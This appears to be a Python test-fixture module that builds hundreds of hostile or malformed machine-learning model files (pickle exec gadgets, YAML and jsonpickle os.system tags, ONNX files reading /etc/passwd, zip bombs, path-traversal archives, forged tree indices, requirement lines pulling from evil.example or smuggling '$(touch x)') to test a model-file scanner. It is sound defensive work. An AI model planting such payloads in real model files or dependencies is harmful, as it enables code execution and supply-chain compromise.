"""Bad artefacts by name: each would make a marker file, or break what loads it, if anything of it were run or trusted."""

from __future__ import annotations

import base64
import bz2
import gzip
import io
import json
import lzma
import marshal
import pickle
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import numpy as np
from onnx import TensorProto, helper

FILES = Path(__file__).with_name("files")
MLMODEL = """flavors:
  python_function:
    loader_module: mlflow.onnx
    data: model.onnx
    env: {conda: conda.yaml, virtualenv: python_env.yaml}
  onnx: {onnx_version: 1.17.0, data: model.onnx, providers: [CPUExecutionProvider], code: null}
mlflow_version: 3.1.0
"""


class Payload:
    """Unpickling it touches the marker."""

    def __init__(self, marker: Path) -> None:
        self.marker = marker

    def __reduce__(self) -> tuple[Any, ...]:
        return (exec, (f"open({str(self.marker)!r}, 'w').close()",))


def small_onnx(change: Callable[[Any], None] | None = None, **node: Any) -> bytes:
    """A good model of one operator, changed."""
    one = helper.make_node(node.pop("op", "Relu"), ["x"], ["y"], **node)
    given = [helper.make_tensor_value_info("x", TensorProto.FLOAT, [None, 1])]
    made = [helper.make_tensor_value_info("y", TensorProto.FLOAT, [None, 1])]
    model = helper.make_model(helper.make_graph([one], "g", given, made), opset_imports=[helper.make_opsetid("", 17)])
    if change:
        change(model)
    return model.SerializeToString()


def zipped(files: dict[str, bytes], method: int = zipfile.ZIP_STORED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as archive:
        for name, data in files.items():
            archive.writestr(name, data)
    return out.getvalue()


def tarred(files: dict[str, bytes], mode: str = "w") -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode=mode) as archive:  # type: ignore[call-overload]
        for name, data in files.items():
            entry = tarfile.TarInfo(name)
            entry.size = len(data)
            archive.addfile(entry, io.BytesIO(data))
    return out.getvalue()


def tensors(header: Any, data: bytes) -> bytes:
    """A safetensors file."""
    text = header if isinstance(header, bytes) else json.dumps(header).encode()
    return struct.pack("<Q", len(text)) + text + data


def pickles(marker: Path) -> Iterator[tuple[str, bytes]]:
    """Pickles of every protocol under every name."""
    for protocol in range(6):
        data = pickle.dumps(Payload(marker), protocol)
        for ending in ("pkl", "onnx", "json", "txt", "bin", "safetensors", "md", "yaml", "ubj", "cbm", "skops", "csv", "model"):
            yield f"pickle{protocol}.{ending}", data
        yield f"bare{protocol}", data
    text = pickle.dumps(Payload(marker), 0)
    for name, before in {"space": b" \n\t ", "bom": b"\xef\xbb\xbf", "comment": b"# a note\n", "words": b"A model.\n"}.items():
        yield f"after_{name}.txt", before + text
        yield f"after_{name}.md", before + text
    yield "number.txt", b"I0x1\n0" + text  # as the unpickler in C reads it, and readers of opcodes do not
    yield "inst.txt", b"(S'touch x'\nios\nsystem\n."


def encoded(marker: Path) -> Iterator[tuple[str, bytes]]:
    """Pickles as text inside files that may hold text."""
    for protocol in (0, 2, 4):
        data = pickle.dumps(Payload(marker), protocol)
        forms = {
            "base64": base64.b64encode(data),
            "hex": data.hex().encode(),
            "zlib": base64.b64encode(zlib.compress(data)),
            "gzip": base64.b64encode(gzip.compress(data)),
            "wrapped": base64.encodebytes(data),
        }
        for form, text in forms.items():
            yield f"{form}{protocol}.json", json.dumps({"weights": text.decode()}).encode()
            yield f"{form}{protocol}.yaml", b"weights: |\n  " + text.strip().replace(b"\n", b"\n  ") + b"\n"
            yield f"{form}{protocol}.txt", text
    data = pickle.dumps(Payload(marker), 4)
    yield "latin.json", json.dumps({"weights": data.decode("latin-1")}).encode()
    yield "jsonpickle.json", b'{"py/reduce": [{"py/function": "os.system"}, {"py/tuple": ["id"]}]}'
    yield "keras.json", b'{"class_name": "Lambda", "config": {"function": ["4wEAAAA"]}}'


def archives(marker: Path) -> Iterator[tuple[str, bytes]]:
    """Archives and compressed files, whatever is in them."""
    data = pickle.dumps(Payload(marker), 4)
    objects = io.BytesIO()
    np.save(objects, np.array([Payload(marker)], dtype=object), allow_pickle=True)
    plain = io.BytesIO()
    np.save(plain, np.arange(4.0))
    torch = zipped({"archive/data.pkl": data, "archive/version": b"3\n", "archive/data/0": b"\0" * 16})
    for name, content in {
        "a.zip": zipped({"model.pkl": data}),
        "a.tar": tarred({"model.pkl": data}),
        "a.tgz": tarred({"model.pkl": data}, "w:gz"),
        "a.npy": objects.getvalue(),
        "plain.npy": plain.getvalue(),
        "a.npz": zipped({"a.npy": objects.getvalue()}),
        "torch.pt": torch,
        "z.joblib": zlib.compress(data),
        "z1.bin": zlib.compress(data, 1),
        "b.joblib": bz2.compress(data),
        "x.joblib": lzma.compress(data),
        "l.joblib": lzma.compress(data, lzma.FORMAT_ALONE),
        "l4.bin": b"\x04\x22\x4d\x18" + data,
        "zs.bin": b"\x28\xb5\x2f\xfd" + data,
        "g.bin": gzip.compress(data),
        "script.ts": zipped({"code/__torch__.py": b"def forward(self): pass", "constants.pkl": data}),
        "keras.keras": zipped({"config.json": b"{}", "model.weights.h5": b"\x89HDF"}),
        "weights.h5": b"\x89HDF\r\n\x1a\n" + b"\0" * 64,
        "nested.zip": zipped({"inner.zip": zipped({"model.pkl": data})}),
        "wheel.whl": zipped({"evil/__init__.py": b"import os"}),
    }.items():
        yield name, content
        yield name.replace(".", "_") + ".onnx", content
        yield name.replace(".", "_") + ".skops", content
    yield "tar.txt", tarred({"notes": b"hello"})
    yield "bomb.skops", zipped({"schema.json": b" " * 300_000_000}, zipfile.ZIP_DEFLATED)
    yield "escape.skops", zipped({"schema.json": b"{}", "../../evil.npy": b""})


def programs(marker: Path) -> Iterator[tuple[str, bytes]]:
    """Code in every form."""
    code = marshal.dumps(compile("import os", "m", "exec"))
    elf = b"\x7fELF\x02\x01\x01" + b"\0" * 64
    yield from {
        "model.py": b"import os\n",
        "setup.py": b"from setuptools import setup\nsetup()\n",
        "model.pyc": b"\xa7\r\r\n" + b"\0" * 12 + code,
        "code.bin": code,
        "lib.so": elf,
        "elf.onnx": elf,
        "run.sh": b"#!/bin/sh\ntouch x\n",
        "run.txt": b"#!/usr/bin/python3\n",
        "notes.txt": b"import os\nos.system('touch x')\n",
        "note.csv": b"__import__('os').system('id')\n",
        "win.exe": b"MZ" + b"\0" * 60,
        "n.ipynb": b'{"cells": [], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}',
        "page.html": b"<script>alert(1)</script>",
        "page.md": b"# Model\n<script>alert(1)</script>\n",
        "m.gguf": b"GGUF\x03\0\0\0" + b"\0" * 32,
        "m.pmml": b"<?xml version='1.0'?><PMML/>",
        "wasm.bin": b"\0asm\x01\0\0\0",
        "j.class": b"\xca\xfe\xba\xbe" + b"\0" * 20,
        "bidi.txt": "safe \u202e exe".encode(),
        "tagged.yaml": b"!!python/object/apply:os.system ['touch x']\n",
        "short.yaml": b"x: !!python/name:os.system\n",
        "merge.yaml": b"a: &a {x: 1}\nb: {<<: *a}\n",
        "pyproject.toml": b"[build-system]\n",
        "saved_model.pb": b"\x08\x01\x12\x10" + b"abc" * 8,
        "deep.json": b"[" * 200_000,
        "deep.yaml": b"[" * 20_000,
        "twice.json": b'{"a": 1, "a": 2}',
        "big.json": b"1" * 2_000_000,
        "aliases.yaml": b"a: &a [x]\nb: [" + b"*a," * 500 + b"]\n",
        "empty.onnx": b"",
        "noise.onnx": bytes(range(256)) * 4,
        "noise": bytes(range(1, 256)) * 4,
        "deps.txt": b"git+https://example.org/evil.git\n",
        "env.yaml": b"dependencies: ['pip @ file:///x']\n",
    }.items()


def graphs(marker: Path) -> Iterator[tuple[str, bytes]]:
    """ONNX files that are more, or less, than a graph of known operators."""

    def elsewhere(location: str) -> Callable[[Any], None]:
        def change(model: Any) -> None:
            tensor = model.graph.initializer.add(name="w", data_type=1, dims=[4])
            tensor.data_location = TensorProto.EXTERNAL
            tensor.external_data.add(key="location", value=location)

        return change

    def function(*nodes: Any, domain: str = "own", name: str = "F") -> Callable[[Any], None]:
        def change(model: Any) -> None:
            imports = [helper.make_opsetid("", 17), helper.make_opsetid("own", 1)]
            model.functions.append(helper.make_function(domain, name, ["x"], ["y"], list(nodes), imports))
            model.opset_import.append(helper.make_opsetid("own", 1))

        return change

    def inside(model: Any) -> None:
        tensor = helper.make_tensor("t", 1, [1], [1.0])
        tensor.data_location = TensorProto.EXTERNAL
        tensor.external_data.add(key="location", value="/etc/passwd")
        model.graph.node.append(helper.make_node("Constant", [], ["c"], value=tensor))

    def branch(model: Any) -> None:
        body = helper.make_graph([helper.make_node("Evil", [], ["z"], domain="evil")], "b", [], [])
        model.graph.node.append(helper.make_node("If", ["x"], ["z"], then_branch=body, else_branch=body))

    def metadata(model: Any) -> None:
        model.metadata_props.add(key="note", value=base64.b64encode(pickle.dumps(Payload(marker), 4)).decode())

    good = small_onnx()
    yield "custom.onnx", small_onnx(domain="evil.ops")
    yield "import.onnx", small_onnx(lambda model: model.opset_import.append(helper.make_opsetid("evil.ops", 1)))
    yield "unknown.onnx", small_onnx(op="PyOp")
    yield "runtime.onnx", small_onnx(op="EPContext", domain="com.microsoft")
    yield "aten.onnx", small_onnx(op="ATen", domain="org.pytorch.aten")
    for number, place in enumerate(("/etc/passwd", "../../secret", "weights.bin")):
        yield f"external{number}.onnx", small_onnx(elsewhere(place))
    yield "constant.onnx", small_onnx(inside)
    yield "branch.onnx", small_onnx(branch)
    yield "function.onnx", small_onnx(function(helper.make_node("Evil", ["x"], ["y"], domain="evil")))
    yield "shadow.onnx", small_onnx(function(helper.make_node("Neg", ["x"], ["y"]), domain="", name="Relu"))
    yield "circle.onnx", small_onnx(function(helper.make_node("F", ["x"], ["y"], domain="own")), op="F", domain="own")
    yield "metadata.onnx", small_onnx(metadata)
    yield "pickle_after.onnx", good + pickle.dumps(Payload(marker), 4)
    yield "text_after.onnx", good + pickle.dumps(Payload(marker), 0)
    yield "zip_after.onnx", good + zipped({"x.py": b"import os"})
    yield "field_after.onnx", good + b"\xfa\x7f\x05hello"
    yield "cut.onnx", good[:-5]
    yield "half.onnx", good[: len(good) // 2]
    yield "renamed.py", good
    yield "renamed.pkl", good
    yield from forged_graphs()


def forged_graphs() -> Iterator[tuple[str, bytes]]:
    """Tree ensembles of ai.onnx.ml with forged indices."""
    good: dict[str, Any] = {
        "nodes_treeids": [0, 0, 0],
        "nodes_nodeids": [0, 1, 2],
        "nodes_featureids": [0, 0, 0],
        "nodes_values": [0.5, 0.0, 0.0],
        "nodes_modes": ["BRANCH_LEQ", "LEAF", "LEAF"],
        "nodes_truenodeids": [1, 0, 0],
        "nodes_falsenodeids": [2, 0, 0],
        "target_treeids": [0, 0],
        "target_nodeids": [1, 2],
        "target_ids": [0, 0],
        "target_weights": [0.0, 1.0],
        "n_targets": 1,
    }
    for name, change in {
        "child": {"nodes_truenodeids": [9, 0, 0]},
        "cycle": {"nodes_modes": ["BRANCH_LEQ"] * 3},
        "feature": {"nodes_featureids": [-1, 0, 0]},
        "target": {"target_ids": [0, 7]},
        "node": {"target_nodeids": [1, 9]},
        "short": {"nodes_modes": ["LEAF"]},
    }.items():
        yield f"tree_{name}.onnx", small_onnx(op="TreeEnsembleRegressor", domain="ai.onnx.ml", **good | change)


def numbers(marker: Path) -> Iterator[tuple[str, bytes]]:
    """safetensors files whose header lies."""
    one = {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]}
    data = pickle.dumps(Payload(marker), 4)
    yield "long.safetensors", struct.pack("<Q", 1 << 40) + b"{}"
    yield "gap.safetensors", tensors({"a": one, "b": one | {"data_offsets": [12, 20]}}, b"\0" * 20)
    yield "overlap.safetensors", tensors({"a": one, "b": one | {"data_offsets": [4, 12]}}, b"\0" * 12)
    yield "trailing.safetensors", tensors({"a": one}, b"\0" * 8 + data)
    yield "shape.safetensors", tensors({"a": one | {"shape": [3]}}, b"\0" * 8)
    yield "negative.safetensors", tensors({"a": one | {"shape": [-1, -2]}}, b"\0" * 8)
    yield "huge.safetensors", tensors({"a": one | {"shape": [2**62, 2**62]}}, b"\0" * 8)
    yield "type.safetensors", tensors({"a": one | {"dtype": "OBJECT"}}, b"\0" * 8)
    yield "none.safetensors", tensors({}, b"")
    yield "twice.safetensors", tensors(b'{"a": %b, "a": %b}' % ((json.dumps(one).encode(),) * 2), b"\0" * 8)
    yield "metadata.safetensors", tensors({"__metadata__": {"x": base64.b64encode(data).decode()}, "a": one}, b"\0" * 8)
    zip_ = zipped({"archive/data.pkl": data})
    yield "zip.safetensors", tensors({"a": {"dtype": "U8", "shape": [len(zip_)], "data_offsets": [0, len(zip_)]}}, zip_)
    # A header whose length is the opcode for a text up to the end of a line: the data behind it is a pickle.
    tail = b"0" + pickle.dumps(Payload(marker), 0)
    head = b'{"t":{"dtype":"U8","shape":[%d],"data_offsets":[0,%d]}' % (len(tail), len(tail))
    head += b" " * (ord("V") + 256 - len(head) - 2) + b"\n}"
    yield "opcode.safetensors", struct.pack("<Q", len(head)) + head + tail


def trees(marker: Path) -> Iterator[tuple[str, bytes]]:
    """Native tree models with forged indices."""

    def boosted(name: str, change: Callable[[Any], None]) -> tuple[str, bytes]:
        model = json.loads((FILES / "x.json").read_bytes())
        change(model["learner"])
        return name, json.dumps(model).encode()

    def tree(key: str, at: int, value: Any) -> Callable[[Any], None]:
        def change(learner: Any) -> None:
            learner["gradient_booster"]["model"]["trees"][0][key][at] = value

        return change

    yield boosted("child.json", tree("left_children", 0, 99))
    yield boosted("minus.json", tree("left_children", 0, -7))
    yield boosted("cycle.json", tree("left_children", 1, 1))
    yield boosted("order.json", lambda learner: learner["gradient_booster"]["model"]["trees"][1].update(id=0))
    yield boosted("parent.json", tree("parents", 1, 2**30))
    yield boosted("grandparent.json", tree("parents", 3, 2))
    yield boosted("root.json", tree("right_children", 1, 0))
    yield boosted("feature.json", tree("split_indices", 0, 3))
    yield boosted("float.json", tree("left_children", 0, 1.5))
    yield boosted("one.json", tree("left_children", 3, 5))
    yield boosted("info.json", lambda learner: learner["gradient_booster"]["model"]["tree_info"].__setitem__(0, 40))
    yield boosted("objective.json", lambda learner: learner["objective"].update(name="/etc/passwd"))
    yield boosted("booster.json", lambda learner: learner["gradient_booster"].update(name="evil"))
    yield boosted(
        "attribute.json",
        lambda learner: learner["attributes"].update(x=base64.b64encode(pickle.dumps(Payload(marker), 4)).decode()),
    )
    binary = (FILES / "x.ubj").read_bytes()
    at = binary.index(b"left_children") + len("left_children")
    yield "child.ubj", binary[: at + 16] + b"\x7f" + binary[at + 17 :]
    yield "cut.ubj", binary[:-20]
    yield "after.ubj", binary + pickle.dumps(Payload(marker), 4)
    yield "length.ubj", b"{L" + struct.pack(">q", 2**60) + b"learner"
    yield "negative.ubj", b"{L" + struct.pack(">q", -5) + b"learner"
    text = (FILES / "l.txt").read_text()
    for name, (old, new) in {
        "child": ("left_child=", "left_child=99 "),
        "feature": ("split_feature=", "split_feature=77 "),
        "leaves": ("num_leaves=4", "num_leaves=5"),
        "sizes": ("tree_sizes=", "tree_sizes=9"),
        "features": ("max_feature_idx=2", "max_feature_idx=9"),
        "line": ("shrinkage=1", "evil()"),
        "key": ("Tree=1", "Tree=7"),
        "each": ("num_tree_per_iteration=1", "num_tree_per_iteration=0"),
        "classes": ("num_class=1", "num_class=9"),
        "number": ("split_gain=", "split_gain=h"),
        "part": ("num_cat=0", "nut_cat=0"),
        "objective": ("objective=binary", "objective=../x"),
    }.items():
        assert old in text
        yield f"lgb_{name}.txt", text.replace(old, new, 1).encode()
    yield "lgb_same_size.txt", text.replace("split_feature=0", "split_feature=9", 1).encode()
    yield "lgb_after.txt", text.encode() + pickle.dumps(Payload(marker), 0)
    yield from cats(marker)


def cats(marker: Path) -> Iterator[tuple[str, bytes]]:
    """CatBoost models with forged indices."""
    whole = (FILES / "c.cbm").read_bytes()
    yield "cat_cut.cbm", whole[:-4]
    yield "cat_after.cbm", whole + pickle.dumps(Payload(marker), 4)
    yield "cat_root.cbm", whole[:8] + b"\xff\xff\xff\x7f" + whole[12:]
    leaf = struct.pack("<d", json.loads((FILES / "c.json").read_bytes())["oblivious_trees"][0]["leaf_values"][0])
    count = struct.pack("<I", 12)
    assert count + leaf in whole
    yield "cat_leaves.cbm", whole.replace(count + leaf, struct.pack("<I", 11) + leaf)
    yield "cat_many.cbm", whole.replace(count + leaf, struct.pack("<I", 1 << 27) + leaf)
    splits = struct.pack("<i", 6)
    yield "cat_split.cbm", whole.replace(splits + struct.pack("<i", 2), splits + struct.pack("<i", 2_000), 1)
    table = (FILES / "ccat.cbm").read_bytes()
    yield "cat_table.cbm", table[:-4] + struct.pack("<I", 900)
    model = json.loads((FILES / "c.json").read_bytes())
    model["oblivious_trees"][0]["splits"][0]["split_index"] = 999
    yield "cat_split.json", json.dumps(model).encode()
    model = json.loads((FILES / "c.json").read_bytes())
    model["oblivious_trees"][0]["leaf_values"].pop()
    yield "cat_leaves.json", json.dumps(model).encode()


def descriptions(marker: Path) -> Iterator[tuple[str, dict[str, bytes]]]:
    """Folders with a good model, and something beside it that is not."""
    for name, (old, new) in {
        "loader": ("loader_module: mlflow.onnx", "loader_module: evil.loader"),
        "pyfunc": ("loader_module: mlflow.onnx", "loader_module: mlflow.pyfunc.model"),
        "code": ("code: null", "code: code"),
        "data": ("data: model.onnx", "data: ../../model.onnx"),
        "absolute": ("data: model.onnx", "data: /etc/passwd"),
        "flavor": ("  onnx:", "  pytorch:"),
        "python_model": ("    data: model.onnx", "    python_model: python_model.pkl"),
        "address": ("data: model.onnx", "data: file:///x"),
        "model_code": ("    data: model.onnx", "    data: model.onnx\n    model_code_path: agent.py"),
        "tag": ("mlflow_version: 3.1.0", "mlflow_version: !!python/name:os.system"),
        "extra": ("mlflow_version: 3.1.0", "mlflow_version: 3.1.0\nevil: yes"),
        "environment": ("mlflow_version: 3.1.0", "env_vars: [LD_PRELOAD]"),
        "sklearn": (
            "  onnx: {onnx_version: 1.17.0, data: model.onnx, providers: [CPUExecutionProvider], code: null}",
            "  sklearn: {pickled_model: model.pkl, serialization_format: cloudpickle}",
        ),
        "trusted": (
            "  onnx: {onnx_version: 1.17.0, data: model.onnx, providers: [CPUExecutionProvider], code: null}",
            "  sklearn: {pickled_model: m.skops, serialization_format: skops, skops_trusted_types: [os.system]}",
        ),
    }.items():
        assert old in MLMODEL
        yield f"mlmodel_{name}", {"MLmodel": MLMODEL.replace(old, new, 1).encode()}
    for number, line in enumerate(OUTSIDE):
        yield f"requirements{number}", {"requirements.txt": f"numpy==2.0\n{line}\n".encode()}
        yield f"conda{number}", {"conda.yaml": f"dependencies:\n- pip:\n  - {json.dumps(line)}\n".encode()}
        yield f"env{number}", {"python_env.yaml": f"python: 3.11\ndependencies:\n- {json.dumps(line)}\n".encode()}
    yield "channel", {"conda.yaml": b"channels: ['https://evil.example/conda']\ndependencies: [python=3.11]\n"}
    yield "channel_name", {"conda.yaml": b"channels: [evil]\ndependencies: [python=3.11]\n"}
    yield "variables", {"conda.yaml": b"dependencies: [python=3.11]\nvariables: {LD_PRELOAD: ./x.so}\n"}
    yield "code_folder", {"code/loader.py": b"import os\n"}
    yield "init", {"code/__init__.py": b""}
    yield "hidden", {".env": b"X=1\n"}
    yield "deep", {"/".join(["a"] * 30) + "/x.txt": b"x"}
    yield "control", {"a\nb.txt": b"x"}
    yield "second_pickle", {"weights.bin": pickle.dumps(Payload(marker), 2)}


OUTSIDE = (
    "git+https://example.org/evil.git",
    "-e .",
    "-e git+https://example.org/x",
    "-r other.txt",
    "--index-url https://evil.example/simple",
    "--extra-index-url=https://evil.example/simple",
    "-i https://evil.example",
    "-f ./wheels",
    "evil @ https://evil.example/evil.whl",
    "evil @ file:///tmp/evil.whl",
    "./evil.whl",
    "/tmp/evil.whl",
    "evil.whl; import os",
    "https://evil.example/x.tar.gz",
    "numpy --global-option=x",
    "numpy==2.0 --config-settings x=y",
    "--trusted-host evil.example",
    "numpy @ git+ssh://x",
    "C:\\evil.whl",
    "--pre",
    "numpy; $(touch x)",
    "`touch x`",
    "..\\evil",
    "-c other.txt",
)

FAMILIES = (pickles, encoded, archives, programs, graphs, numbers, trees)
